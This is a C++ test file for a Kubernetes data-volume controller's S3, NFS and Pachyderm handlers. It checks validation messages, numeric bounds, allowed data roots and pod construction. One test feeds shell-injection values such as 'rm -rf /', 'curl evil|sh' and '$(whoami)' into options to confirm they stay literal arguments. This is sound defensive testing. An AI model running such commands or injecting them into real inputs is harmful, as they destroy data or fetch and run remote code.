// Specification of the DataHandlers: the original's validation messages, the security rules
// (argv only, allowed data roots), deterministic names valid for any input length, the
// objects each handler wants, how observed objects become a volume status, and the registry.
#include <vck/handlers/data_path.hpp>
#include <vck/handlers/handler_registry.hpp>
#include <vck/handlers/naming.hpp>
#include <vck/handlers/option_values.hpp>

#include <doctest.h>

#include "printers.hpp"
#include "manifest_support.hpp"

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <limits>
#include <string>
#include <vector>

#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>

using namespace vck::handlers;
namespace api = vck::api;

namespace {

api::VolumeManager manager(std::string name = "vm1", std::string ns = "default") {
    api::VolumeManager vm;
    vm.metadata.name = std::move(name);
    vm.metadata.namespace_ = std::move(ns);
    vm.metadata.uid = "0b8f2a4e-1c7d-4a8e-9d51-3f2b6c7e8a90";
    return vm;
}

api::VolumeConfig s3_volume(int replicas = 1) {
    api::VolumeConfig vc;
    vc.id = "vol1";
    vc.replicas = replicas;
    vc.sourceType = "S3";
    vc.accessMode = "ReadWriteOnce";
    vc.labels = {{"key1", "val1"}};
    vc.options = {{"sourceURL", "s3://bucket/data/"}, {"awsCredentialsSecretName", "aws-creds"}};
    return vc;
}

api::VolumeConfig nfs_volume() {
    api::VolumeConfig vc;
    vc.id = "shared";
    vc.replicas = 1;
    vc.sourceType = "NFS";
    vc.accessMode = "ReadWriteMany";
    vc.labels = {{"key1", "val1"}};
    vc.options = {{"server", "10.0.0.5"}, {"path", "/exports/data"}};
    return vc;
}

api::VolumeConfig pachyderm_volume() {
    api::VolumeConfig vc;
    vc.id = "pach";
    vc.replicas = 1;
    vc.sourceType = "Pachyderm";
    vc.accessMode = "ReadWriteOnce";
    vc.labels = {{"key1", "val1"}};
    vc.options = {{"repo", "images"}, {"branch", "master"}, {"inputPath", "/training/"}, {"outputPath", "out"}};
    return vc;
}

api::Node node(std::string name, api::Labels labels = {}) {
    api::Node n;
    n.metadata.name = std::move(name);
    n.metadata.labels = std::move(labels);
    return n;
}

HandlerContext context(int nodes = 3) {
    HandlerContext ctx;
    ctx.options.data_mover_image = "registry.example/vck-fetch:1";
    ctx.nodes = [nodes] {
        std::vector<api::Node> out;
        for (int i = 0; i < nodes; ++i)
            out.push_back(node("node-" + std::to_string(i), {{"disk", i == 0 ? "ssd" : "hdd"},
                                                             {"kubernetes.io/hostname", "host-node-" + std::to_string(i)}}));
        return out;
    };
    ctx.secret = [](const std::string& ns, const std::string& name) -> std::optional<api::Secret> {
        if (ns != "default" || name != "aws-creds") return std::nullopt;
        api::Secret s;
        s.data = {{"awsAccessKeyID", "QUtJQQ=="}, {"awsSecretAccessKey", "c2VjcmV0"}};
        return s;
    };
    ctx.pod_log_tail = [](const api::Pod& p) { return "log of " + p.metadata.name + ": access denied"; };
    return ctx;
}

api::Pod with_phase(api::Pod p, std::string phase, std::string node_name = "node-0") {
    p.status = api::PodStatus{};
    p.status->phase = std::move(phase);
    p.spec.nodeName = std::move(node_name);
    return p;
}

bool valid_dns_label(const std::string& s) {
    if (s.empty() || s.size() > 63) return false;
    for (char c : s)
        if (!((c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '-')) return false;
    return s.front() != '-' && s.back() != '-';
}

bool valid_label_name(const std::string& s) {
    if (s.empty() || s.size() > 63) return false;
    auto alnum = [](char c) { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9'); };
    for (char c : s)
        if (!alnum(c) && c != '-' && c != '_' && c != '.') return false;
    return alnum(s.front()) && alnum(s.back());
}

} // namespace

// ---- validation messages of the reference ----------------------------------------------

TEST_CASE("S3 validation words every failure as the original did") {
    S3Handler h;
    auto check = [&](auto mutate, std::string expected) {
        auto vc = s3_volume();
        mutate(vc);
        CHECK(h.validate(vc) == expected);
    };
    CHECK(h.validate(s3_volume()) == std::nullopt);
    check([](auto& vc) { vc.labels.clear(); }, "labels cannot be empty");
    check([](auto& vc) { vc.options.erase("awsCredentialsSecretName"); }, "awsCredentialsSecretName key has to be set in options");
    check([](auto& vc) { vc.options.erase("sourceURL"); }, "sourceURL has to be set in options");
    check([](auto& vc) { vc.accessMode = "ReadWriteMany"; }, "access mode has to be ReadWriteOnce");
    check([](auto& vc) { vc.options["timeoutForDataDownload"] = "five minutes"; }, "error while parsing timeout for data download");
    check([](auto& vc) { vc.options["resync"] = "yes"; }, "error while parsing resync option");
    check([](auto& vc) { vc.options["resync"] = "true"; vc.replicas = 2; }, "replicas cannot be > 1 when resync is set");
}

TEST_CASE("an invalid distributionStrategy is reported with what is wrong") {
    S3Handler h;
    for (std::string bad : {"not json", R"({"*.jpg": 1})", R"({"*.jpg": 0, "*.png": 3})", R"({"[a-": 3})",
                            R"(["*.jpg"])", R"({"*.jpg": "3"})"}) {
        auto vc = s3_volume(3);
        vc.options["distributionStrategy"] = bad;
        auto e = h.validate(vc);
        CAPTURE(bad);
        REQUIRE(e);
        CHECK(e->rfind("invalid distributionStrategy", 0) == 0);
    }
    auto vc = s3_volume(3);
    vc.options["distributionStrategy"] = R"({"*.jpg": 2, "*.png": 1})";
    CHECK(h.validate(vc) == std::nullopt);
}

TEST_CASE("firstBatch takes a share of the data or an amount of bytes, and says what it accepts otherwise") {
    S3Handler h;
    for (std::string good : {"25%", "100%", "0.5%", "64Mi", "1G", "500000"}) {
        auto vc = s3_volume();
        vc.options["firstBatch"] = good;
        CAPTURE(good);
        CHECK(h.validate(vc) == std::nullopt);
    }
    for (std::string bad : {"0%", "101%", "-5%", "%", "quarter", "0", "-64Mi", "25 %", "nan%", ""}) {
        auto vc = s3_volume();
        vc.options["firstBatch"] = bad;
        CAPTURE(bad);
        CHECK(h.validate(vc) == "firstBatch has to be a share of the data such as \"25%\" (more than 0, at most 100) or "
                                "an amount of bytes such as \"64Mi\" (more than 0), not \"" + bad + "\"");
    }
    auto vc = s3_volume();
    vc.options["firstBatch"] = "10%";
    vc.options["resync"] = "true";
    CHECK(h.validate(vc) == "firstBatch cannot be set with resync");
}

TEST_CASE("a first batch is reached only by a reported prefix holding its share or amount") {
    using vck::fetch::TransferCounts;
    auto share = std::get<vck::handlers::FirstBatch>(vck::handlers::parse_first_batch("25%"));
    auto amount = std::get<vck::handlers::FirstBatch>(vck::handlers::parse_first_batch("1Ki"));
    CHECK_FALSE(share.reached(TransferCounts{5, 10, 900, 1000}));  // no prefix told: never reached
    CHECK_FALSE(share.reached(TransferCounts{5, 10, 900, 1000, 1, 249}));
    CHECK(share.reached(TransferCounts{5, 10, 900, 1000, 2, 250}));
    CHECK_FALSE(amount.reached(TransferCounts{5, 10, 2000, 4000, 1, 1023}));
    CHECK(amount.reached(TransferCounts{5, 10, 2000, 4000, 2, 1024}));
    CHECK(amount.reached(TransferCounts{2, 2, 100, 100, 2, 100}));  // more than the dataset: reached once all landed
    CHECK_FALSE(share.reached(TransferCounts{0, 4, 0, 0, 0, 0}));    // empty files: by their share
    CHECK(share.reached(TransferCounts{1, 4, 0, 0, 1, 0}));
}

TEST_CASE("a volume with firstBatch starts its files in key order") {
    auto vc = s3_volume();
    vc.options["firstBatch"] = "64Mi";
    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    const auto& args = pods[0].spec.containers.at(0).args;
    CHECK(std::count(args.begin(), args.end(), "--in-order") == 1);
    auto plain = S3Handler{}.desired(context(), manager(), s3_volume()).pods;
    const auto& plain_args = plain.at(0).spec.containers.at(0).args;
    CHECK(std::count(plain_args.begin(), plain_args.end(), "--in-order") == 0);
}

TEST_CASE("S3 validation in context checks node count, the Secret and its keys") {
    S3Handler h;
    auto ctx = context(2);
    CHECK(h.validate(ctx, manager(), s3_volume(3)) == "replicas [3] greater than number of nodes [2]");
    auto vc = s3_volume();
    vc.options["awsCredentialsSecretName"] = "missing";
    CHECK(h.validate(ctx, manager(), vc) == R"(awsCredentialsSecretName: Secret "missing" not found in namespace "default")");
    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> {
        api::Secret s;
        s.data = {{"awsAccessKeyID", "QUtJQQ=="}};
        return s;
    };
    CHECK(h.validate(ctx, manager(), s3_volume()) == R"(awsCredentialsSecretName: Secret "aws-creds" has no key "awsSecretAccessKey")");
}

TEST_CASE("NFS validation words every failure as the original did") {
    NfsHandler h;
    CHECK(h.validate(nfs_volume()) == std::nullopt);
    auto vc = nfs_volume();
    vc.labels.clear();
    CHECK(h.validate(vc) == "labels cannot be empty");
    vc = nfs_volume();
    vc.options.erase("server");
    CHECK(h.validate(vc) == "server has to be set in options");
    vc = nfs_volume();
    vc.options.erase("path");
    CHECK(h.validate(vc) == "path has to be set in options");
    vc = nfs_volume();
    vc.accessMode = "ReadWriteOnce";
    CHECK(h.validate(vc) == "access mode has to be either ReadWriteMany or ReadOnlyMany");
    vc.accessMode = "ReadOnlyMany";
    CHECK(h.validate(vc) == std::nullopt);
}

TEST_CASE("reclaimPolicy of NFS and Local volumes is Delete or Retain, spelled exactly") {
    auto local = nfs_volume();
    local.sourceType = "Local";
    local.accessMode = "ReadWriteOnce";
    local.options = {{"path", "/var/datasets/imagenet"}};
    for (const char* ok : {"Delete", "Retain"}) {
        auto vc = nfs_volume();
        vc.options["reclaimPolicy"] = ok;
        CHECK(NfsHandler{}.validate(vc) == std::nullopt);
        auto l = local;
        l.options["reclaimPolicy"] = ok;
        CHECK(LocalHandler{}.validate(context(), manager(), l) == std::nullopt);
    }
    CHECK_FALSE(retains_volumes(nfs_volume()));  // the default deletes, as before the option
    auto vc = nfs_volume();
    vc.options["reclaimPolicy"] = "Retain";
    CHECK(retains_volumes(vc));
    for (const char* bad : {"retain", "Keep", "", "Recycle"}) {
        CAPTURE(bad);
        vc.options["reclaimPolicy"] = bad;
        CHECK(NfsHandler{}.validate(vc) == "reclaimPolicy has to be Delete or Retain, not \"" + std::string(bad) + "\"");
        auto l = local;
        l.options["reclaimPolicy"] = bad;
        CHECK(LocalHandler{}.validate(context(), manager(), l) ==
              "reclaimPolicy has to be Delete or Retain, not \"" + std::string(bad) + "\"");
        CHECK(NfsHandler{}.desired(context(), manager(), vc).persistent_volumes.empty());  // nothing built
    }
}

TEST_CASE("Pachyderm validation words every failure as the original did") {
    PachydermHandler h;
    CHECK(h.validate(pachyderm_volume()) == std::nullopt);
    for (std::string key : {"repo", "branch", "inputPath", "outputPath"}) {
        auto vc = pachyderm_volume();
        vc.options.erase(key);
        CHECK(h.validate(vc) == key + " has to be set in options");
    }
    auto vc = pachyderm_volume();
    vc.accessMode = "ReadOnlyMany";
    CHECK(h.validate(vc) == "access mode has to be ReadWriteOnce");
    vc = pachyderm_volume();
    vc.labels.clear();
    CHECK(h.validate(vc) == "labels cannot be empty");
    vc = pachyderm_volume();
    vc.options["timeoutForDataDownload"] = "5 min";
    CHECK(h.validate(vc) == "error while parsing timeout for data download");
    vc = pachyderm_volume();
    vc.options["outputPath"] = "../../etc";
    CHECK(h.validate(vc) == "outputPath has to be a relative path inside the volume");
    // Not the original's: the repo starts pachctl 2.x's one argument, which is never a flag.
    for (std::string repo : {"-images", "--help", "-"}) {
        vc = pachyderm_volume();
        vc.options["repo"] = repo;
        CHECK(h.validate(vc) == "repo cannot start with '-'");
        CHECK(h.desired(context(), manager(), vc).pods.empty());
    }
    vc = pachyderm_volume();
    vc.options["repo"] = "images-";
    vc.options["branch"] = "-b";
    vc.options["inputPath"] = "-rf";
    CHECK(h.validate(vc) == std::nullopt);  // inside that argument, or after `--`
}

TEST_CASE("Go durations and booleans parse as the original's Go code did") {
    CHECK(parse_go_duration("5m") == 300.0);
    CHECK(parse_go_duration("1h30m") == 5400.0);
    CHECK(parse_go_duration("1.5s") == 1.5);
    CHECK(parse_go_duration("250ms") == doctest::Approx(0.25));
    CHECK(parse_go_duration("0") == 0.0);
    CHECK_FALSE(parse_go_duration("5"));
    CHECK_FALSE(parse_go_duration("m"));
    CHECK_FALSE(parse_go_duration("5 m"));
    CHECK(parse_go_bool("True") == true);
    CHECK(parse_go_bool("0") == false);
    CHECK_FALSE(parse_go_bool("yes"));
}

TEST_CASE("a Go duration beyond int64 nanoseconds is refused, as Go's time.ParseDuration refuses it") {
    CHECK(parse_go_duration("2562047h") == 2562047.0 * 3600);
    CHECK_FALSE(parse_go_duration("2562048h"));
    CHECK_FALSE(parse_go_duration("99999999999999999999h"));
    CHECK_FALSE(parse_go_duration(std::string(400, '9') + "h"));
}

// ---- numbers in range before use ------------------------------------------------------------

TEST_CASE("NFS and Local need no replicas: a volume without it decodes as one replica and validates") {
    auto vc = api::from_json<api::VolumeConfig>(boost::json::parse(
        R"({"id":"shared","sourceType":"NFS","accessMode":"ReadWriteMany","labels":{"key1":"val1"},
            "options":{"server":"10.0.0.5","path":"/exports/data"}})"));
    CHECK(vc.replicas == 1);
    CHECK(NfsHandler{}.validate(vc) == std::nullopt);
    CHECK(NfsHandler{}.desired(context(), manager(), vc).persistent_volumes.size() == 1);
    auto local = vc;
    local.sourceType = "Local";
    local.accessMode = "ReadWriteOnce";
    local.options = {{"path", "/var/datasets/imagenet"}};
    CHECK(LocalHandler{}.validate(context(), manager(), local) == std::nullopt);
    // Where the count matters, the default is one copy.
    auto s3 = api::from_json<api::VolumeConfig>(boost::json::parse(
        R"({"id":"vol1","sourceType":"S3","accessMode":"ReadWriteOnce","labels":{"key1":"val1"},
            "options":{"sourceURL":"s3://bucket/data/","awsCredentialsSecretName":"aws-creds"}})"));
    CHECK(S3Handler{}.validate(context(), manager(), s3) == std::nullopt);
    CHECK(S3Handler{}.desired(context(), manager(), s3).pods.size() == 1);
}

TEST_CASE("S3 and Pachyderm refuse replicas outside 1..10000 and build nothing for them") {
    auto ctx = context();
    for (std::int64_t replicas : {std::int64_t{0}, std::int64_t{-1}, std::int64_t{10001},
                                  std::numeric_limits<std::int64_t>::max()}) {
        CAPTURE(replicas);
        auto s3 = s3_volume();
        s3.replicas = replicas;
        auto pach = pachyderm_volume();
        pach.replicas = replicas;
        std::string expected = replicas < 1 ? "replicas has to be at least 1" : "replicas has to be at most 10000";
        CHECK(S3Handler{}.validate(s3) == expected);
        CHECK(PachydermHandler{}.validate(pach) == expected);
        CHECK(S3Handler{}.desired(ctx, manager(), s3).pods.empty());
        CHECK(PachydermHandler{}.desired(ctx, manager(), pach).pods.empty());
    }
    auto vc = s3_volume();
    vc.replicas = 10000;
    CHECK(S3Handler{}.validate(vc) == std::nullopt);
}

TEST_CASE("distributionStrategy counts are checked one by one, so no sum overflows and none exceeds replicas") {
    S3Handler h;
    auto vc = s3_volume(3);
    // Four counts of 2^62 (+3) add up to 2^64 + 3: wrapped, that is 3 == replicas.
    vc.options["distributionStrategy"] =
        R"({"a": 4611686018427387904, "b": 4611686018427387904, "c": 4611686018427387904, "d": 4611686018427387907})";
    CHECK(h.validate(vc) == "invalid distributionStrategy: counts add up to more than replicas (3)");
    CHECK(h.desired(context(), manager(), vc).pods.empty());
    vc.options["distributionStrategy"] = R"({"a": 9223372036854775807, "b": 9223372036854775807})";
    CHECK(h.validate(vc) == "invalid distributionStrategy: counts add up to more than replicas (3)");
    vc.options["distributionStrategy"] = R"({"a": 4})";
    CHECK(h.validate(vc) == "invalid distributionStrategy: counts add up to more than replicas (3)");
    vc.options["distributionStrategy"] = R"({"a": 2, "b": 2})";
    CHECK(h.validate(vc) == "invalid distributionStrategy: counts add up to more than replicas (3)");
    vc.options["distributionStrategy"] = R"({"a": 18446744073709551615})";
    CHECK(h.validate(vc) == R"(invalid distributionStrategy: count of "a" has to be a positive integer)");
    vc.options["distributionStrategy"] = R"({"a": 1e300})";
    CHECK(h.validate(vc) == R"(invalid distributionStrategy: count of "a" has to be a positive integer)");
    vc.options["distributionStrategy"] = R"({"a": 2, "b": 1})";
    CHECK(h.validate(vc) == std::nullopt);
    CHECK(h.desired(context(), manager(), vc).pods.size() == 3);
}

TEST_CASE("timeoutForDataDownload is at most 8760h and becomes a positive activeDeadlineSeconds") {
    CHECK(download_timeout_seconds("8760h") == 31536000);
    CHECK(download_timeout_seconds("0.5s") == 1);
    CHECK(download_timeout_seconds("5m") == 300);
    for (std::string bad : {"8760h1ms", "8761h", "0s", "0", "-5m"}) {
        CAPTURE(bad);
        CHECK_FALSE(download_timeout_seconds(bad));
        CHECK(download_timeout_problem(bad) ==
              "error while parsing timeout for data download: \"" + bad + "\" has to be greater than 0 and at most 8760h");
    }
    // Beyond Go's own range it does not parse, as in the original.
    CHECK(download_timeout_problem("2562048h") == "error while parsing timeout for data download");
    CHECK(download_timeout_problem("2562047h") ==
          "error while parsing timeout for data download: \"2562047h\" has to be greater than 0 and at most 8760h");

    auto ctx = context();
    for (auto* handler : {"S3", "Pachyderm"}) {
        CAPTURE(handler);
        auto vc = std::string(handler) == "S3" ? s3_volume() : pachyderm_volume();
        auto validate = [&](const api::VolumeConfig& v) {
            return std::string(handler) == "S3" ? S3Handler{}.validate(v) : PachydermHandler{}.validate(v);
        };
        auto pods = [&](const api::VolumeConfig& v) {
            return std::string(handler) == "S3" ? S3Handler{}.desired(ctx, manager(), v).pods
                                                : PachydermHandler{}.desired(ctx, manager(), v).pods;
        };
        // Past int64 seconds, this wrapped to activeDeadlineSeconds -9223372036854775808.
        vc.options["timeoutForDataDownload"] = "9999999999999999h";
        CHECK(validate(vc) == "error while parsing timeout for data download");
        CHECK(pods(vc).empty());
        vc.options["timeoutForDataDownload"] = "9223372036s";
        CHECK(validate(vc) == "error while parsing timeout for data download: \"9223372036s\" has to be greater "
                              "than 0 and at most 8760h");
        CHECK(pods(vc).empty());
        vc.options["timeoutForDataDownload"] = "8760h";
        CHECK(validate(vc) == std::nullopt);
        REQUIRE(pods(vc).size() == 1);
        CHECK(pods(vc)[0].spec.activeDeadlineSeconds == 31536000);
    }
}

TEST_CASE("the ports of endpointURL and pachydermServiceAddress are from 1 to 65535") {
    CHECK(port_of("https://s3.example:9000/bucket") == "9000");
    CHECK(port_of("https://s3.example/bucket") == std::nullopt);
    CHECK(port_of("http://[::1]:9000") == "9000");
    CHECK(port_of("http://[::1]") == std::nullopt);
    CHECK(port_of("pachd.default.svc:650") == "650");
    CHECK(port_of("grpc://pachd:") == "");
    CHECK(parse_port("65535") == 65535);
    for (std::string bad : {"", "0", "65536", "99999999999", "-1", "+80", "8o"}) CHECK_FALSE(parse_port(bad));

    auto s3 = s3_volume();
    for (std::string ok : {"http://minio:9000", "https://s3.amazonaws.com", "http://[fd00::1]:80/"}) {
        s3.options["endpointURL"] = ok;
        CHECK(S3Handler{}.validate(s3) == std::nullopt);
    }
    for (std::string bad : {"http://minio:0", "http://minio:65536", "http://minio:", "http://minio:http"}) {
        CAPTURE(bad);
        s3.options["endpointURL"] = bad;
        CHECK(S3Handler{}.validate(s3) == "endpointURL has to have a port from 1 to 65535");
    }
    auto pach = pachyderm_volume();
    for (std::string ok : {"pachd.default.svc:650", "pachd", "grpc://pachd:30650"}) {
        pach.options["pachydermServiceAddress"] = ok;
        CHECK(PachydermHandler{}.validate(pach) == std::nullopt);
    }
    for (std::string bad : {"pachd:0", "pachd:70000", "grpc://pachd:"}) {
        CAPTURE(bad);
        pach.options["pachydermServiceAddress"] = bad;
        CHECK(PachydermHandler{}.validate(pach) == "pachydermServiceAddress has to have a port from 1 to 65535");
    }
}

// ---- data paths ---------------------------------------------------------------------------

TEST_CASE("dataPath outside the allowed roots is rejected after normalisation") {
    const std::vector<std::string> roots{"/var/datasets"};
    for (std::string bad : {"/", "/etc", "/var/datasets/../etc", "/var/datasets2", "relative/path", "", "/var"}) {
        CAPTURE(bad);
        CHECK_FALSE(check_data_path(bad, roots).ok());
    }
    CHECK(check_data_path("/etc", roots).error == R"(dataPath "/etc" is not under an allowed data root (/var/datasets))");
    CHECK(check_data_path("/var/datasets", roots).path == "/var/datasets");
    CHECK(check_data_path("/var/datasets/./a//b/", roots).path == "/var/datasets/a/b");
    CHECK_FALSE(check_data_path("/etc", {"/"}).ok());
}

TEST_CASE("a volume whose dataPath escapes the allowed roots fails and gets no pods") {
    S3Handler s3;
    PachydermHandler pach;
    auto ctx = context();
    for (std::string bad : {"/", "/etc", "/var/datasets/../etc"}) {
        auto vc = s3_volume();
        vc.options["dataPath"] = bad;
        CHECK(s3.validate(ctx, manager(), vc)->find("is not under an allowed data root") != std::string::npos);
        CHECK(s3.desired(ctx, manager(), vc).pods.empty());
        CHECK(s3.status(ctx, manager(), vc, {}).phase == VolumePhase::Failed);
        auto pv = pachyderm_volume();
        pv.options["dataPath"] = bad;
        CHECK(pach.desired(ctx, manager(), pv).pods.empty());
    }
}

// ---- names ---------------------------------------------------------------------------------

TEST_CASE("names are deterministic DNS labels even for 253-character names and ids") {
    std::string long_name(253, 'a');
    std::string long_id = "Volume_ID." + std::string(240, 'Z');
    auto a = naming::replica_pod_name("uid-1", long_id, 7);
    CHECK(valid_dns_label(a));
    CHECK(a == naming::replica_pod_name("uid-1", long_id, 7));
    CHECK(a != naming::replica_pod_name("uid-1", long_id, 8));
    CHECK(a != naming::replica_pod_name("uid-2", long_id, 7));
    CHECK(valid_dns_label(naming::cleanup_pod_name("uid-1", long_id, "node-" + long_name)));
    CHECK(valid_dns_label(naming::object_name("uid", "---", "pv")));
    auto vm = manager(long_name, std::string(63, 'n'));
    auto vc = s3_volume();
    vc.id = long_id;
    for (const auto& p : S3Handler{}.desired(context(), vm, vc).pods) {
        CHECK(valid_dns_label(p.metadata.name));
        for (const auto& [k, v] : p.metadata.labels) CHECK(v.size() <= 63);
    }
}

TEST_CASE("node label keys stay valid and distinct for any namespace, name and id length") {
    auto key = naming::node_label_key("default", "vm1", "vol1");
    CHECK(key == "vck.intelai.org/default.vm1.vol1");
    std::string long_name(253, 'b');
    auto k1 = naming::node_label_key(std::string(63, 'n'), long_name, "vol1");
    auto k2 = naming::node_label_key(std::string(63, 'n'), long_name, "vol2");
    CHECK(k1 != k2);
    for (const auto& k : {k1, k2, naming::node_label_key("ns", "name", "weird/id:with*chars")}) {
        CAPTURE(k);
        REQUIRE(k.rfind("vck.intelai.org/", 0) == 0);
        CHECK(valid_label_name(k.substr(std::string("vck.intelai.org/").size())));
    }
    CHECK(valid_label_name(naming::label_value(long_name)));
    CHECK(naming::label_value("vm1") == "vm1");
}

// ---- S3 pods -------------------------------------------------------------------------------

TEST_CASE("S3 download pods run vck-fetch with argv and secretKeyRef env, one per replica") {
    auto ctx = context();
    auto vm = manager();
    auto vc = s3_volume(2);
    vc.options["endpointURL"] = "http://minio:9000";
    vc.tolerations.push_back(api::Toleration{"gpu", "Exists", "", "NoSchedule", std::nullopt});
    vc.nodeAffinity = api::NodeAffinity{};
    vc.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution =
        api::NodeSelector{{api::NodeSelectorTerm{{api::NodeSelectorRequirement{"disk", "In", {"ssd"}}}, {}}}};
    auto pods = S3Handler{}.desired(ctx, vm, vc).pods;
    REQUIRE(pods.size() == 2);
    CHECK(pods[0].metadata.name != pods[1].metadata.name);
    const auto& pod = pods[0];
    const auto& c = pod.spec.containers.at(0);
    CHECK(c.image == "registry.example/vck-fetch:1");
    CHECK(c.command == std::vector<std::string>{"vck-fetch"});
    CHECK(c.args == std::vector<std::string>{"fetch", "s3://bucket/data/", "/vck/data", "--endpoint=http://minio:9000",
                                         "--progress-interval=5", "--termination-log=/dev/termination-log"});
    REQUIRE(c.env.size() == 2);
    CHECK(c.env[0].name == "AWS_ACCESS_KEY_ID");
    CHECK(c.env[0].valueFrom->secretKeyRef->name == "aws-creds");
    CHECK(c.env[0].valueFrom->secretKeyRef->key == "awsAccessKeyID");
    CHECK(c.env[1].valueFrom->secretKeyRef->key == "awsSecretAccessKey");
    CHECK(pod.spec.restartPolicy == "Never");
    CHECK(pod.spec.activeDeadlineSeconds == 300);
    // The allowed root is the volume; the volume's directory below it is the mount's subPath,
    // which the kubelet refuses when a symlink on the node leads it out of the root.
    CHECK(pod.spec.volumes.at(0).hostPath->path == "/var/datasets");
    CHECK(c.volumeMounts.at(0).mountPath == "/vck/data");
    CHECK("/var/datasets/" + c.volumeMounts.at(0).subPath == naming::volume_directory("/var/datasets", vm.metadata.uid, vc.id));
    CHECK(c.volumeMounts.at(0).subPath.rfind("vck-resource-", 0) == 0);
    CHECK(pod.spec.tolerations.at(0).key == "gpu");
    CHECK(pod.spec.affinity->nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution->nodeSelectorTerms.at(0)
              .matchExpressions.at(0).key == "disk");
    const auto& spread = pod.spec.affinity->podAntiAffinity->requiredDuringSchedulingIgnoredDuringExecution.at(0);
    CHECK(spread.topologyKey == "kubernetes.io/hostname");
    CHECK(spread.labelSelector->matchLabels == volume_selector(vm, vc));
    for (const auto& [k, v] : volume_selector(vm, vc)) CHECK(pod.metadata.labels.at(k) == v);
    CHECK(pod.metadata.labels.at("vckname") == "vm1");
    CHECK(pod.metadata.labels.at("vcid") == "vol1");
    CHECK(pod.metadata.labels.at("key1") == "val1");
    CHECK(pod.metadata.ownerReferences.at(0).kind == "VolumeManager");
    CHECK(pod.metadata.ownerReferences.at(0).controller == true);
    CHECK(S3Handler{}.desired(ctx, vm, vc).pods.at(1).metadata.name == pods[1].metadata.name);
}

TEST_CASE("shell-injection payloads stay literal argv entries") {
    std::string payload = "s3://bucket/x; rm -rf / #$(reboot)`id`";
    auto vc = s3_volume(1);
    vc.options["sourceURL"] = payload;
    vc.options["distributionStrategy"] = R"({"*.jpg; curl evil|sh": 1})";
    vc.options["endpointURL"] = "http://h/$(whoami)";
    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    const auto& c = pods[0].spec.containers.at(0);
    CHECK(c.command == std::vector<std::string>{"vck-fetch"});
    CHECK(c.args.at(1) == payload);
    CHECK(c.args.at(3) == "--endpoint=http://h/$(whoami)");
    CHECK(c.args.back() == "--include=*.jpg; curl evil|sh");
    for (const auto& a : c.args) CHECK(a.find("sh -c") == std::string::npos);

    auto pv = pachyderm_volume();
    pv.options["repo"] = "images; rm -rf /";
    pv.options["branch"] = "$(id)";
    auto pp = PachydermHandler{}.desired(context(), manager(), pv).pods;
    REQUIRE(pp.size() == 1);
    const auto& pc = pp[0].spec.containers.at(0);
    // A shell, but its script is fixed: the values are only its positional parameters.
    CHECK(pc.command == std::vector<std::string>{"/bin/sh", "-c", PachydermDownload::script(true), "sh"});
    CHECK(pc.args == std::vector<std::string>{"images; rm -rf /", "$(id)", "/training/", "/vck/data/out"});
    CHECK(pc.env.at(0).name == "PACHD_ADDRESS");
    CHECK(pc.env.at(0).value == "pachd.default.svc:650");
}

TEST_CASE("each replica downloads only its distributionStrategy glob") {
    auto vc = s3_volume(3);
    vc.options["distributionStrategy"] = R"({"train/*.jpg": 2, "val/*.jpg": 1})";
    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
    REQUIRE(pods.size() == 3);
    CHECK(pods[0].spec.containers[0].args.back() == "--include=train/*.jpg");
    CHECK(pods[1].spec.containers[0].args.back() == "--include=train/*.jpg");
    CHECK(pods[2].spec.containers[0].args.back() == "--include=val/*.jpg");
}

TEST_CASE("resync downloads in an init container, then keeps syncing back") {
    auto vc = s3_volume(1);
    vc.options["resync"] = "true";
    auto pods = S3Handler{}.desired(context(), manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    CHECK(pods[0].spec.initContainers.at(0).args.at(0) == "fetch");
    CHECK(pods[0].spec.containers.at(0).args ==
          std::vector<std::string>{"sync-back", "/vck/data", "s3://bucket/data/", "--endpoint=https://s3.amazonaws.com"});
    CHECK_FALSE(pods[0].spec.activeDeadlineSeconds);
    auto running = with_phase(pods[0], "Running");
    auto out = S3Handler{}.status(context(), manager(), vc, {{running}, {}, {}});
    CHECK(out.phase == VolumePhase::Ready);
}

// ---- S3 status -----------------------------------------------------------------------------

TEST_CASE("S3 status is pending until every replica succeeded, then gives hostPath and node affinity") {
    S3Handler h;
    auto ctx = context();
    auto vm = manager();
    auto vc = s3_volume(2);
    auto pods = h.desired(ctx, vm, vc).pods;
    auto none = h.status(ctx, vm, vc, {});
    CHECK(none.phase == VolumePhase::Pending);
    auto half = h.status(ctx, vm, vc, {{with_phase(pods[0], "Succeeded", "node-0"), with_phase(pods[1], "Running", "node-1")}, {}, {}});
    CHECK(half.phase == VolumePhase::Pending);
    CHECK(half.status.message == "downloading: 1 of 2 replicas done");
    CHECK(half.node_labels.size() == 2);  // both nodes hold (partial) data
    auto done = h.status(ctx, vm, vc, {{with_phase(pods[0], "Succeeded", "node-0"), with_phase(pods[1], "Succeeded", "node-1")}, {}, {}});
    REQUIRE(done.phase == VolumePhase::Ready);
    CHECK(done.status.message == "success");
    CHECK(done.status.volumeSource->hostPath->path == naming::volume_directory("/var/datasets", vm.metadata.uid, vc.id));
    auto key = naming::node_label_key("default", "vm1", "vol1");
    const auto& req = done.status.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution->nodeSelectorTerms.at(0)
                          .matchExpressions.at(0);
    CHECK(req.key == key);
    CHECK(done.node_labels == std::vector<NodeLabel>{{"node-0", key, "true"}, {"node-1", key, "true"}});
}

TEST_CASE("a failed download fails the volume with the tail of the pod's log") {
    S3Handler h;
    auto ctx = context();
    auto vc = s3_volume(1);
    auto pod = with_phase(h.desired(ctx, manager(), vc).pods.at(0), "Failed");
    auto out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
    CHECK(out.phase == VolumePhase::Failed);
    CHECK(out.status.message == "error during data download using pod " + pod.metadata.name + ": log of " +
                                    pod.metadata.name + ": access denied");
    pod.status->reason = "DeadlineExceeded";
    CHECK(h.status(ctx, manager(), vc, {{pod}, {}, {}}).status.message.find("(timed out)") != std::string::npos);
}

